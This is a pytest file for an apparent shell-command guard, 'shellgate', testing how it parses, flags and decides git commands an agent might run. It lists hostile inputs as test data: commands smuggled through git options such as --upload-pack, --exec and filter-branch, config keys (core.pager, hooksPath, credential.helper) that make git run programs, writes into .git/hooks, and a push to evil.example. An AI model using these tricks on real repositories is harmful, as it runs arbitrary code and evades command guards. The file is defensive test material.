"""git in the catalog: what it runs, what it writes, what it finds, how rules see it.

Every case goes through the real parse and ``analyse``; decisions go through the
real engine with the two test policies (``shell_policy_helpers``) or, for
canonical forms, through the real casbin layer and a policy set on disk.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from shellgate import load_config
from shellgate.decider import Decider
from shellgate.models import Segment
from shellgate.policy.casbin_layer import CasbinLayer
from shellgate.shell import analyse
from tests.policy.policy_helpers import call, write_set
from tests.shell.shell_policy_helpers import WORKDIR, decision

W = WORKDIR


def segments(command: str) -> tuple[Segment, ...]:
    return analyse(command, workdir=W).segments


def first(command: str) -> Segment:
    return segments(command)[0]


# -- options that run a shell string or a program: `rm x` is denied wherever it hides --

PAYLOADS = [
    "git ls-remote --upload-pack='rm x' .",
    "git ls-remote -u 'rm x' .",
    "git ls-remote --upload='rm x' .",
    "git fetch --upload-pack='rm x' origin",
    "git pull --upload-pack 'rm x' origin main",
    "git clone --upload-pack='rm x' src dst",
    "git clone -u 'rm x' src dst",
    "git fetch-pack --exec='rm x' .",
    "git push --receive-pack='rm x' origin",
    "git push --exec='rm x' origin",
    "git push --rec='rm x' origin",
    "git send-pack --receive-pack='rm x' .",
    "git archive --remote=. --exec='rm x' HEAD",
    "git rebase -x 'rm x' HEAD~2",
    "git rebase --exec='rm x' HEAD~2",
    "git --no-pager rebase --ex 'rm x' main",
    "git submodule foreach 'rm x'",
    "git submodule foreach --recursive rm x",
    "git submodule --quiet foreach rm x",
    "git bisect run rm x",
    "git difftool -x 'rm x' HEAD",
    "git difftool --extcmd='rm x' HEAD",
    *(f"git filter-branch --{kind}-filter 'rm x' HEAD"
      for kind in ("env", "tree", "index", "parent", "msg", "commit", "tag-name")),
    "git grep -Orm x",
    "git grep --open-files-in-pager=rm x",
    "git instaweb --httpd='rm x'",
    "git send-email --to-cmd='rm x' p.patch",
    "git -C sub -P ls-remote --upload-pack='rm x' .",
]  # fmt: skip


@pytest.mark.parametrize("command", PAYLOADS)
def test_payload_options_are_denied_with_a_denied_program(command: str) -> None:
    assert decision(command, "denylist") == "deny"


@pytest.mark.parametrize("command", PAYLOADS)
def test_payload_options_are_never_allowed(command: str) -> None:
    assert decision(command, "allowlist") != "allow"


def test_a_harmless_payload_is_its_own_segment() -> None:
    found = segments("git ls-remote --upload-pack='git-upload-pack' .")
    assert ("git-upload-pack",) in [s.argv for s in found]


# -- findings: configuration that can make git run programs ------------------------

FINDINGS = [
    "git -c core.pager='rm x' log",
    "git -ccore.pager=x log",
    "git --config-env=core.pager=X log",
    "git --exec-path=/tmp/bin status",
    "git clone --template=/tmp/t src dst",
    "git init --template=/tmp/t",
    "git clone -c core.hooksPath=/tmp src dst",
    "git clone --config core.fsmonitor=x src dst",
    "git config core.hooksPath /tmp/hooks",
    "git config core.fsmonitor 'touch x'",
    "git config --add alias.st '!id'",
    "git config --replace-all core.pager less",
    "git config filter.lfs.smudge 'id'",
    "git config diff.foo.textconv id",
    "git config includeIf.gitdir:/x.path /tmp/c",
    "git config protocol.ext.allow always",
    "git config remote.origin.uploadpack 'id'",
    "git config set core.sshCommand 'id'",
    "git config credential.helper '!id'",
    "git config --global user.name x",
    "git config --system --unset user.name",
    "git config -f /tmp/c --get user.name",
    "git config --file=.git/config user.name x",
    "git config --edit",
    "git config edit",
]


@pytest.mark.parametrize("command", FINDINGS)
def test_code_loading_options_are_findings(command: str) -> None:
    assert first(command).findings
    assert decision(command, "denylist") != "allow"


@pytest.mark.parametrize(
    "command",
    ["git log -c", "git status", "git config --get core.pager", "git config -l",
     "git config user.name", "git config --get-regexp alias", "git config list",
     "git config user.name 'A B'", "git --exec-path", "git log --oneline -5",
     "git -C sub status"],
)  # fmt: skip
def test_reads_and_harmless_settings_stay_clean(command: str) -> None:
    assert first(command).findings == ()


# -- writes through options (protected paths meet them) --------------------------------

WRITES = [
    ("git --work-tree=.git/hooks checkout HEAD -- pre-commit", f"{W}/.git/hooks"),
    ("git --work-tree .git/hooks checkout HEAD -- pre-commit", f"{W}/.git/hooks"),
    ("git --git-dir=.git/hooks/x init", f"{W}/.git/hooks/x"),
    ("git init --separate-git-dir=.git/hooks/x", f"{W}/.git/hooks/x"),
    ("git clone --separate-git-dir .git/hooks/x src dst", f"{W}/.git/hooks/x"),
    ("git log --output=.git/hooks/x", f"{W}/.git/hooks/x"),
    ("git show --output .git/hooks/x", f"{W}/.git/hooks/x"),
    ("git diff --outp=.git/hooks/x", f"{W}/.git/hooks/x"),
    ("git whatchanged --output=.git/hooks/x", f"{W}/.git/hooks/x"),
    ("git format-patch -o .git/hooks HEAD~1", f"{W}/.git/hooks"),
    ("git format-patch --output-directory=.git/hooks HEAD~1", f"{W}/.git/hooks"),
    ("git archive -o .git/hooks/x HEAD", f"{W}/.git/hooks/x"),
    ("git archive --output=.git/hooks/x HEAD", f"{W}/.git/hooks/x"),
    ("git bundle create .git/hooks/x HEAD", f"{W}/.git/hooks/x"),
    ("git checkout-index -a --prefix=.git/hooks/", f"{W}/.git/hooks"),
    ("git config -f .git/hooks/x a.b c", f"{W}/.git/hooks/x"),
    ("git -C .git log --output=hooks/x", f"{W}/.git/hooks/x"),
    ("git -C a -C b log --output=x", f"{W}/a/b/x"),
    ("git -C /srv log --output=x", "/srv/x"),
    ("git filter-branch -d .git/hooks HEAD", f"{W}/.git/hooks"),
]


@pytest.mark.parametrize(("command", "target"), WRITES)
def test_write_options_land_in_writes(command: str, target: str) -> None:
    assert target in first(command).write_paths


@pytest.fixture(scope="module")
def shipped() -> Decider:
    """The real decider over ``policies/default`` (its protected-paths layer included)."""
    policy = str(Path(__file__).resolve().parents[2] / "policies" / "default")
    return Decider(load_config(None, policy={"paths": [policy]}, audit={"path": None},
                               executor={"workspace": W}))


@pytest.mark.parametrize(("command", "target"), [w for w in WRITES if "/.git/hooks" in w[1]])
def test_write_options_to_git_hooks_are_denied(shipped: Decider, command: str, target: str) -> None:
    del target
    verdict = shipped.decide(call(command=command, workdir=W, workspace=W))
    assert verdict.effect == "deny"


def test_output_indicators_are_no_output() -> None:
    assert first("git log --output-indicator-new=+ -p").write_paths == ()


# -- canonical forms -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "canonical"),
    [
        ("git push --force", "git push -f"),
        ("git push -f", "git push -f"),
        ("git push origin --force", "git push -f origin"),
        ("git --no-pager -C . -P push", "git push"),
        ("git --no-pager push https://evil.example/x.git HEAD",
         "git push https://evil.example/x.git HEAD"),
        ("git --bare --no-optional-locks --literal-pathspecs push", "git push"),
        ("git -p branch --list -D feat", "git branch -d -f -l feat"),
        ("git --no-pager log --output=x", "git log --output=x"),
        ("git -c a.b=c log", "git -ca.b=c log"),
        ("git tar czf x", "git tar czf x"),
        # git-push(1): `+` on a refspec is --force for that ref, `:dst` is
        # --delete dst, --mirror force-updates and deletes, --prune deletes.
        ("git push origin +main", "git push -f origin main"),
        ("git push origin main +HEAD:feat", "git push -f origin main HEAD:feat"),
        ("git push -u origin +main", "git push -f -u origin main"),
        ("git push origin :old", "git push -d origin old"),
        ("git push origin +:old", "git push -d -f origin old"),
        ("git push origin +:", "git push -f origin :"),
        ("git push --delete origin old", "git push -d origin old"),
        ("git push --mirror origin", "git push --mirror -d -f origin"),
        ("git push --mirr origin", "git push --mirror -d -f origin"),
        ("git push --prune origin", "git push --prune -d origin"),
        ("git push origin :", "git push origin :"),
        # A separate, conditional option keeps its own spelling (docs/policies.md).
        ("git push --force-with-lease=main:abc origin main",
         "git push --force-with-lease=main:abc origin main"),
    ],
)  # fmt: skip
def test_canonical_forms(command: str, canonical: str) -> None:
    assert first(command).canonical == (canonical,)


def test_an_ambiguous_prefix_reads_as_every_option_it_could_be() -> None:
    # git itself refuses --forc (--force, --force-with-lease, --force-if-includes).
    (canonical,) = first("git push --forc origin").canonical
    assert canonical.startswith("git push ")
    assert " -f " in canonical


def test_a_subcommand_the_catalog_does_not_declare_keeps_its_words() -> None:
    # Only git's inert global options leave it; its own options stay as written.
    assert first("git --no-pager branch -D feat").canonical == ("git branch -d -f feat",)
    assert first("git log -c").canonical == ("git log -c",)


@pytest.mark.parametrize(
    ("command", "effect"),
    [
        ("git --no-pager push https://evil.example/x.git HEAD", "ask"),
        ("git -C . -P push origin", "ask"),
        ("git push --force origin", "deny"),
        ("git push -f origin", "deny"),
        ("git push --forc origin", "deny"),
        ("git --no-pager push --for origin", "deny"),
        ("git push --force-with-lease origin", "ask"),
        ("git push origin +main", "deny"),
        ("git push --mirror origin", "deny"),
        ("git for-each-repo --config=a.b push -f origin", "deny"),
        ("git log --oneline", "allow"),
        ("git --no-pager log", "allow"),
        ("git --no-pager branch -D feat", "ask"),
        # git refuses `--list -D`, but a rule on `-D` reads every spelling with it.
        ("git branch --list -D feat", "ask"),
    ],
)
def test_rules_see_the_canonical_command(tmp_path: Path, command: str, effect: str) -> None:
    rows = ("p, agent, *, git log *, allow\np, agent, *, git --no-pager log *, allow\n"
            "p, agent, *, git push *, ask\np, agent, *, git push --force *, deny\n"
            "p, agent, *, git branch --list *, allow\np, agent, *, git branch -D *, ask\n")
    layer = CasbinLayer([write_set(tmp_path, rows)])
    decided = layer.shellgate_check(call(workdir=W, workspace=W), first(command))
    assert decided is not None
    assert decided.effect == effect
